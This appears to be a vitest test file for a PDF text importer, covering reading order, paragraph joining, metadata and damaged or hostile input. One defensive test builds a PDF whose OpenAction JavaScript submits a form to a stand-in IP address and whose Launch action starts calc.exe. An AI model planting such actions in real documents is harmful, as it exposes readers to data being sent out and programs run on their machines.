import { beforeAll, describe, expect, test } from 'vitest';
import { importDocument } from '../importDocument';
import { file, fixture, outline } from '../testing/fixture';
import { linesAt, type MadeDocument, makePdf } from '../testing/makePdf';
import { provideAssets } from '../testing/provideAssets';
import { readPdf } from './readPdf';

beforeAll(provideAssets);

async function read(made: MadeDocument | Uint8Array, fileName = 'made.pdf') {
  const result = await readPdf({ bytes: made instanceof Uint8Array ? made : makePdf(made), fileName });
  if (!result.ok) throw new Error(result.error.message);
  return result.value;
}

const words =
  'The harbour office kept a register of every vessel that came and went, and the register was lost in the flood of that spring, as the warden has it.'.split(
    ' ',
  );

/** Widths of Helvetica's letters in thousandths of its size. */
const widths: readonly (readonly [string, number])[] = [
  ['ijl', 222],
  [' .,ft-', 278],
  ['r', 333],
  ['ckvsxyz', 500],
  ['m', 833],
  ['w', 722],
];

function widthOf(text: string): number {
  const of = (letter: string) => widths.find(([letters]) => letters.includes(letter))?.[1] ?? 556;
  return [...text].reduce((sum, letter) => sum + of(letter) / 1_000, 0);
}

/** `count` lines that fill `width` letter heights as well as words go, from the given word on. */
function prose(count: number, width: number, first: number, measure = widthOf): string[] {
  const lines: string[] = [];
  let place = first;
  while (lines.length < count) {
    let line = words[place++ % words.length] ?? '';
    for (;;) {
      const longer = `${line} ${words[place % words.length]}`;
      if (measure(longer) > width) break;
      line = longer;
      place += 1;
    }
    lines.push(line);
  }
  return lines;
}

describe('reading order', () => {
  test('columns are not read across', async () => {
    const { sourceText } = await read(fixture('pdf/two-columns.pdf').bytes);
    expect(sourceText.text).toContain(
      'the flood on the fishing fleet in an official affidavit of five pages',
    );
    expect(sourceText.text).toContain(
      'One said that the fjord was free of it; the other that he could not find',
    );
    expect(sourceText.text).toContain('fifteen men were sufficient to shift the freight');
  });

  test('columns drawn line by line across are read one after the other, under their title', async () => {
    const left = prose(8, 22, 0);
    const right = prose(8, 22, 7);
    const rows = left.map(
      (line, row) => linesAt(60, 700 - 12 * row, [line]) + linesAt(310, 700 - 12 * row, [right[row] ?? '']),
    );
    const { sourceText } = await read({
      pages: [
        {
          content: `${linesAt(60, 760, ['A title above both of the columns, from one to the other side'], { size: 16 })}\n${rows.join('\n')}`,
        },
      ],
    });
    expect(sourceText.text.replace(/\s+/g, ' ')).toBe(
      `A title above both of the columns, from one to the other side ${left.join(' ')} ${right.join(' ')}`,
    );
    expect(sourceText.blocks[0]).toMatchObject({ kind: 'heading', level: 1 });
  });

  test('a table is not read as columns', async () => {
    const rows = ['Anna', 'Ben', 'Carla', 'Dov', 'Elif', 'Faris'];
    const content = rows
      .map(
        (name, row) => linesAt(60, 700 - 14 * row, [name]) + linesAt(300, 700 - 14 * row, [String(40 + row)]),
      )
      .join('\n');
    const { sourceText } = await read({ pages: [{ content }] });
    expect(sourceText.text.replace(/\s+/g, ' ')).toBe('Anna 40 Ben 41 Carla 42 Dov 43 Elif 44 Faris 45');
  });

  test('right-to-left text is in the order it is read, numbers and Latin words within it', async () => {
    const { sourceText } = await read(fixture('pdf/arabic.pdf').bytes);
    expect(sourceText.text).toContain('من شهر تموز 2014، وإن ثلاثة عمال رأوا شاحنة بيضاء تغادر');
    expect(sourceText.text).toContain('وقالت شركة Harbour Logistics في بيان إن 45 طناً من المواد نُقلت');
    expect(sourceText.text).toContain('ولا تزال الأسباب مجهولة حتى الآن، ولم يُعلن أحد مسؤوليته');
    expect(sourceText.text).not.toMatch(/[\ufb50-\ufdff\ufe70-\ufeff]/);
  });

  test('the words of a browser’s Arabic, drawn letter by letter from the left, are torn apart before their last letter', async () => {
    const { sourceText } = await read(fixture('pdf/arabic-from-a-browser.pdf').bytes);
    expect(sourceText.text).toContain(
      'أعلنت إدارة الميناء أن السفينة ألما أبحرت قبل الفجر وعلى متنها ستة ركاب، ونفى خفر السواحل ذلك في بيان لاحق.',
    );
    expect(sourceText.text).toContain('لا توجد صور.');
  });
});

describe('paragraphs', () => {
  test('lines are joined, words parted by the layout are whole and the place of the hyphen is kept', async () => {
    const { sourceText } = await read({
      pages: [
        {
          content: linesAt(72, 700, [
            'The municipality acknowledged its responsi-',
            'bility for the well-known misunderstanding, and that the archive would be opened, as a well-',
            'known rule of the North-',
            'West has it.',
          ]),
        },
      ],
    });
    expect(sourceText.text).toBe(
      'The municipality acknowledged its responsibility for the well-known misunderstanding, and that the archive would be opened, as a well-known rule of the North-West has it.',
    );
    expect(sourceText.hyphens).toEqual([sourceText.text.indexOf('bility')]);
  });

  test('gaps, indents, lines that end early and sizes part them', async () => {
    const lines = prose(3, 40, 0);
    const content = [
      linesAt(72, 700, [...lines, 'It ended early.', ...lines]),
      linesAt(72, 600, lines),
      linesAt(90, 564, [lines[0] ?? '']),
      linesAt(72, 552, lines.slice(1)),
      linesAt(72, 500, ['A heading'], { size: 15 }),
    ].join('\n');
    const { sourceText } = await read({ pages: [{ content }] });
    const joined = lines.join(' ');
    expect(outline(sourceText)).toEqual([
      `paragraph ${joined} It ended early.`,
      `paragraph ${joined}`,
      `paragraph ${joined}`,
      `paragraph ${joined}`,
      'h1 A heading',
    ]);
  });

  test('one that goes on overleaf stays whole; head and foot stand before and after it', async () => {
    const lines = prose(6, 40, 0).map((line) => line.replace(/[.]/g, ','));
    const page = (number: number, content: readonly string[]) => ({
      content: `${linesAt(72, 800, [`Annual report, page ${number} of 2`])}\n${linesAt(72, 700, content)}\n${linesAt(300, 40, [String(number)])}`,
    });
    const { sourceText } = await read({
      pages: [
        page(1, ['An opening paragraph.', ...lines]),
        page(2, [`${words[4]} and that was all.`, '', 'The end.']),
      ],
    });
    expect(outline(sourceText)).toEqual([
      'paragraph Annual report, page 1 of 2',
      'paragraph An opening paragraph.',
      'paragraph 1',
      `paragraph ${lines.join(' ')} ${words[4]} and that was all.`,
      'paragraph Annual report, page 2 of 2',
      'paragraph The end.',
      'paragraph 2',
    ]);
    const [first, second] = sourceText.pages ?? [];
    expect(first?.end).toBeLessThan(second?.start ?? 0);
    expect(sourceText.text.slice(second?.start).startsWith(`${words[4]} and that was all.`)).toBe(true);
  });

  test('code keeps its lines, a typewriter’s document does not', async () => {
    const code = linesAt(72, 600, ['make clean', 'make all'], { font: 'F2' });
    const { sourceText } = await read({
      pages: [{ content: `${linesAt(72, 700, prose(5, 40, 0))}\n${code}` }],
    });
    expect(outline(sourceText).at(-1)).toBe('preformatted make clean\nmake all');
    const typed = await read({
      pages: [
        {
          content: linesAt(
            72,
            700,
            prose(4, 60, 0, (text) => text.length),
            { font: 'F2' },
          ),
        },
      ],
    });
    expect(typed.sourceText.blocks).toMatchObject([{ kind: 'paragraph' }]);
  });
});

describe('facts', () => {
  const content = linesAt(72, 700, ['Words.']);

  test('labels and sizes are the document’s own, as displayed', async () => {
    const { sourceText } = await read({
      pages: [{ content }, { content, more: '/Rotate 90' }, { content, width: 14_400, height: 20 }],
      catalogue: '/PageLabels << /Nums [0 << /S /r >> 2 << /S /D /P (A-) /St 7 >>] >>',
    });
    expect(sourceText.pages).toMatchObject([
      { label: 'i', width: 595, height: 842 },
      { label: 'ii', width: 842, height: 595 },
      { label: 'A-7', width: 14_400, height: 20 },
    ]);
  });

  test.each([
    ['Report on the flood', 'Report on the flood'],
    ['Microsoft Word - report.docx', null],
    ['untitled', null],
    ['report_v3.indd', null],
  ])('the title “%s” is taken as %s', async (title, expected) => {
    const { metadata } = await read({
      pages: [{ content }],
      information: `/Title (${title}) /Author (R. Warden) /CreationDate (D:20140725083000+02'00')`,
      catalogue: '/Lang (en-GB)',
    });
    expect(metadata).toMatchObject({
      title: expected,
      author: 'R. Warden',
      publishedAt: '2014-07-25T08:30:00+02:00',
      language: 'en-GB',
    });
  });

  test('what it says of itself besides is lost', async () => {
    const { metadata } = await read({
      pages: [{ content }],
      information:
        '/Subject (Dams) /Keywords (water, wall) /Creator (Writer) /Producer (LibreOffice) /CreationDate (D:20140725083000Z) /ModDate (D:20140726)',
    });
    expect(metadata.facts).toEqual([
      { name: 'Subject', value: 'Dams' },
      { name: 'Keywords', value: 'water, wall' },
      { name: 'Created', value: '2014-07-25T08:30:00Z' },
      { name: 'Last saved', value: '2014-07-26' },
      { name: 'Program', value: 'Writer' },
      { name: 'PDF made by', value: 'LibreOffice' },
    ]);
  });

  test('the hour at which a browser printed a page is taken for its date of publication', async () => {
    const { metadata } = await read({
      pages: [{ content }],
      information:
        "/Creator (Mozilla/5.0 \\(X11; Linux x86_64\\) Chrome/156.0.0.0) /Producer (Skia/PDF m156) /CreationDate (D:20261123124901+00'00')",
    });
    expect(metadata).toMatchObject({ publishedAt: null, capturedAt: '2026-11-23T12:49:01+00:00' });
  });

  test('a language the text is not written in is not believed', async () => {
    const { metadata } = await read({ pages: [{ content }], catalogue: '/Lang (ar-SY)' });
    expect(metadata.language).toBeNull();
  });
});

describe('bad input', () => {
  const page = { content: linesAt(72, 700, ['Words on a page.']) };
  const picture = { content: 'q 400 0 0 600 90 90 cm /Im Do Q' };
  const good = makePdf({ pages: [page, page, page] });

  test.each<[string, Uint8Array, string, RegExp]>([
    [
      'encrypted.pdf',
      makePdf({
        pages: [page],
        trailer: `/ID [<00> <00>] /Encrypt << /Filter /Standard /V 1 /R 2 /P -4 /O <${'5a'.repeat(32)}> /U <${'a5'.repeat(32)}> >>`,
      }),
      'document-encrypted',
      /protected by a password.*without the password/,
    ],
    ['no-pages.pdf', makePdf({ pages: [] }), 'no-pages', /without a single page/],
    [
      'endless.pdf',
      makePdf({ pages: Array(10_001).fill({ content: '' }) }),
      'too-many-pages',
      /10,001 pages.*up to 10,000/,
    ],
    ['stub.pdf', good.subarray(0, 40), 'document-damaged', /is damaged/],
    ['header-only.pdf', new TextEncoder().encode('%PDF-1.7\n'), 'document-damaged', /is damaged/],
    [
      'noise.pdf',
      Uint8Array.from({ length: 4_096 }, (_, at) => (at * 167 + 13) % 256),
      'type-unknown',
      /no kind that is read/,
    ],
  ])('%s is refused in a sentence that names it', async (fileName, bytes, code, sentence) => {
    const result = await importDocument({ bytes, fileName });
    expect(result).toMatchObject({
      ok: false,
      error: { code, message: expect.stringContaining(`“${fileName}”`) },
    });
    if (!result.ok) expect(result.error.message).toMatch(sentence);
  });

  test('a text named .pdf is read as text, and that is said', async () => {
    const result = await importDocument(file('notes.pdf', 'just words'));
    expect(result).toMatchObject({
      ok: true,
      value: { importer: { name: 'txt' }, warnings: [expect.stringContaining('“.pdf”')] },
    });
  });

  test('a PDF after a mail server’s lines, under another name, is a PDF', async () => {
    const bytes = new Uint8Array([...new TextEncoder().encode('Content-Type: application/pdf\n\n'), ...good]);
    const result = await importDocument({ bytes, fileName: 'attachment.txt' });
    expect(result).toMatchObject({ ok: true, value: { importer: { name: 'pdf' } } });
  });

  test('of a file cut short the pages that are there are taken, and that is said', async () => {
    const { sourceText, warnings } = await read(good.subarray(0, good.length - 700));
    expect(sourceText.text).toContain('Words on a page.');
    expect(warnings).toContainEqual(expect.stringMatching(/no end mark.*cut short/));
  });

  test('pictures of pages are taken in, with a warning, and can be marked as pages', async () => {
    const result = await importDocument({
      bytes: makePdf({ pages: [picture, picture] }),
      fileName: 'scan.pdf',
    });
    expect(result).toMatchObject({ ok: true, value: { sourceText: { text: '', blocks: [] } } });
    if (!result.ok) return;
    expect(result.value.sourceText.pages).toMatchObject([{ runs: [], width: 595 }, { runs: [] }]);
    expect(result.value.warnings).toEqual([
      expect.stringMatching(/None of the 2 pages holds any text: scanned/),
    ]);
    const mixed = await read({ pages: [page, picture, page] });
    expect(mixed.warnings).toEqual([expect.stringMatching(/^1 of 3 pages holds no text/)]);
    const drawn = await read({ pages: [{ content: '0 0 m 9 9 l S' }] });
    expect(drawn.warnings).toEqual([expect.stringMatching(/^The page holds no text/)]);
  });

  test('a page that is damaged costs only itself', async () => {
    const bytes = makePdf({ pages: [page, page, page] });
    const text = Buffer.from(bytes).toString('latin1').replace('/Kids [7 0 R 9 0 R', '/Kids [7 0 R 8 0 R');
    const { sourceText, warnings } = await read(new Uint8Array(Buffer.from(text, 'latin1')));
    expect(sourceText.pages?.map(({ runs }) => runs.length)).toEqual([1, 0]);
    expect(warnings).toContainEqual(expect.stringMatching(/damaged and stayed empty: 2/));
  });

  test('actions in the document do nothing', async () => {
    const { sourceText, warnings } = await read({
      pages: [page],
      catalogue:
        '/OpenAction << /S /JavaScript /JS (app.alert\\(1\\); this.submitForm\\("http://192.0.2.1/"\\)) >> /AA << /WC << /S /Launch /F (calc.exe) >> >>',
    });
    expect(sourceText.text).toBe('Words on a page.');
    expect(warnings).toEqual([]);
  });

  test('characters that are none do not get into the text', async () => {
    const { sourceText } = await read({
      pages: [{ content: 'BT /F1 10 Tf 72 700 Td (a\\000b\\007c) Tj ET' }],
    });
    expect(sourceText.text).toBe('abc');
  });
});

test('how far reading has come is told page by page', async () => {
  const told: number[][] = [];
  const bytes = makePdf({ pages: Array(3).fill({ content: linesAt(72, 700, ['Words.']) }) });
  await readPdf({ bytes, fileName: 'made.pdf', onProgress: (done, all) => told.push([done, all]) });
  expect(told).toEqual([
    [1, 3],
    [2, 3],
    [3, 3],
  ]);
});
